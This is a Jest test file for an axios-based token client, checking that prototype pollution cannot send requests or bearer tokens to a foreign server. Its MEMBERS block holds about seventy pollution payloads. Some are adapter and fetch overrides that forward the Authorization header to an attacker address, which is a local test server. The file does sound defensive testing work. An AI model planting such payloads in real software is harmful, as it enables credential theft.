import { describe, expect, it } from '@jest/globals'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type ApiServer, startApi } from '../axios/support/api-server.ts'
import { client, grantText } from '../service/world.ts'
import { part } from '../support/part.ts'
import { run, withChildren } from './support/child.ts'

withChildren()

/** Members of `Object.prototype`, as source code. `theirs` is an address of the attacker, and `socket` a socket of the attacker. */
const MEMBERS = `{
  // Where a connection leads.
  socketPath: socket, path: socket, baseURL: theirs, url: theirs, href: theirs, origin: theirs, origins: [theirs], pathname: '/evil', search: '?evil',
  host: new URL(theirs).host, hostname: 'localhost', port: new URL(theirs).port, protocol: 'https:', localAddress: '127.0.0.1', family: 4, servername: 'evil',
  proxy: { protocol: 'http', host: '127.0.0.1', port: new URL(theirs).port }, allowAbsoluteUrls: false, allowInsecureHttp: true,
  httpAgent: {}, httpsAgent: {}, agent: {}, agents: {}, dispatcher: undefined, connections: 1, allowH2: true, tls: {}, hints: 0, autoSelectFamily: true,
  // What is sent.
  headers: { common: { Authorization: 'Stolen' } }, common: { Authorization: 'Stolen' }, header: 'X-Stolen', scheme: 'Stolen',
  auth: { username: 'u', password: 'p' }, username: 'u', password: 'p', params: { evil: 1 }, paramsSerializer: () => 'evil', data: 'evil',
  transformRequest: [() => 'evil'], withCredentials: true, credentials: 'omit', clientId: 'evil', clientSecret: 'evil', token: 'evil', nonce: 'evil',
  duplex: 'half', keepalive: true, integrity: '', mode: 'cors', cache: 'no-store', referrer: theirs, redirect: 'follow', insecureHTTPParser: true,
  // Who answers, and what is made of it.
  evergreen: false, refuses: () => true, env: { fetch: (request) => fetch(theirs, { headers: request.headers }) },
  beforeRedirect: () => {}, maxRedirects: 5, fetchOptions: { redirect: 'follow' }, transport: { request: () => { throw new Error('sent') } },
  adapter: (config) => fetch(theirs, { headers: { Authorization: String(config.headers.Authorization) } }),
  adapterName: 'http', httpVersion: 2, http2Options: {}, validateStatus: () => true, responseType: 'text', transformResponse: [], access: 'evil',
  clock: {}, maxWaitMs: 0, hasEnded: () => true, anomaly: () => {}, prover: {}, place: {}, serializer: () => 'evil', status: 200, code: 'evil',
}`
/** Members of nested objects are tested, too, without their own value. */
const ALL = [
  ...new Set(Array.from(MEMBERS.replace(/^ *\/\/.*$/gm, '').matchAll(/(?:^|, |^ +)(\w+): /gm), ([, name]) => name!)),
]
/** Each needs a process. The first one leads to the attacker's socket. */
const NAMES = part(
  ALL,
  ALL.filter((_, n) => n % 3 === 0),
)

/** Each process makes its first calls, with both adapters, which share no connection: an existing connection would be reused. */
const program = (name: string, where: Record<'api' | 'tokens' | 'theirs' | 'socket', string>) => `
  const { api, tokens, theirs, socket } = ${JSON.stringify(where)}
  const own = { id: 'one', obtain: async () => ({ accessToken: 'token', accessLifetimeMs: 60_000 }) }
  const made = (adapter) => {
    const source = clientCredentials({ baseUrl: tokens, ...${JSON.stringify(client)}, transport: { adapter, proxy: false } })
    const instance = axios.create({ adapter, baseURL: api, proxy: false })
    attachBearer(instance, createTokenManager({ source: own }))
    return [instance, createTokenManager({ source, retry: { maxAttempts: 1 } })]
  }
  const both = ['http', 'fetch'].map((adapter) => [adapter, ...made(adapter)])
  // A limit against hanging: nothing here takes a minute.
  setTimeout(() => process.exit(say('hung')), 60_000)
  Object.prototype['${name}'] = (${MEMBERS})['${name}']
  const told = (error) => [error.name, error.code, error.message].join(' ')
  const outcomes = []
  for (const [adapter, instance, calls] of both) {
    const sent = await instance.post('/x', 'body').then(({ status }) => status, told)
    outcomes.push(adapter + ': ' + sent + ' | ' + await calls.getAccessToken().then((token) => token, told))
  }
  delete Object.prototype['${name}']
  outcomes.forEach(say)
  process.exit()
`

const GOOD = '200 | issued-token'
const REFUSED =
  /^TypeError \S* ?Object\.prototype\.socketPath is set.* \| TokenError ERR_TOKEN_SOURCE Object\.prototype\.socketPath is set/

describe('given one member of Object.prototype, and a separate process', () => {
  it('when it makes its first calls, then all requests go to the right server, or nothing is sent, and the error names the member (F266)', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'evergreen-'))
    const socket = join(folder, 'socket')
    try {
      const [api, tokens] = [await startApi(), await startApi(() => ({ body: grantText() }))]
      const foreign: ApiServer[] = [await startApi(), await startApi(undefined, socket)]
      const where = { api: api.baseUrl, tokens: tokens.baseUrl, theirs: foreign[0]!.baseUrl, socket }
      const http: Record<string, string> = {}
      const fetch: Record<string, string> = {}
      const left = [...NAMES]
      const worker = async () => {
        for (let name = left.pop(); name !== undefined; name = left.pop()) {
          const child = run(program(name, where))
          await child.ended
          const outcomeOf = (adapter: string) =>
            child.lines.find((line) => line.startsWith(adapter))?.slice(adapter.length + 2)
          http[name] = outcomeOf('http') ?? child.complaints
          fetch[name] = outcomeOf('fetch') ?? child.complaints
        }
      }
      await Promise.all([worker(), worker()])
      expect(foreign.flatMap(({ received }) => received)).toEqual([])
      expect(fetch.socketPath).toMatch(REFUSED)
      const odd = Object.entries({ ...fetch, socketPath: GOOD }).filter(([, outcome]) => outcome !== GOOD)
      // Node's own fetch takes these for headers, and fails.
      expect(odd.map(([name]) => name).filter((name) => name !== 'headers')).toEqual([])
      expect(Object.entries(http).filter(([, outcome]) => outcome !== GOOD)).toEqual([])
      expect(Object.keys(http)).toHaveLength(NAMES.length)
      expect(ALL.length).toBeGreaterThanOrEqual(70)
    } finally {
      rmSync(folder, { recursive: true })
    }
  })
})

describe('given HTTP/2, for which Node reads the path of a socket from Object.prototype', () => {
  it('when there is such a path, then nothing is sent, and the error names the member (F266)', async () => {
    const program = `
      const source = { id: 'one', obtain: async () => ({ accessToken: 'token', accessLifetimeMs: 60_000 }) }
      const instance = axios.create({ adapter: 'http', httpVersion: 2, baseURL: 'http://127.0.0.1:1', proxy: false })
      attachBearer(instance, createTokenManager({ source }))
      Object.prototype.path = '/nowhere'
      const error = await instance.get('/x').catch((thrown) => thrown)
      delete Object.prototype.path
      say([error instanceof TypeError, error.isAxiosError, error.message].join(' '))
      process.exit()
    `
    expect(await run(program).said('true true ')).toMatch(/^Object\.prototype\.path is set/)
  })
})
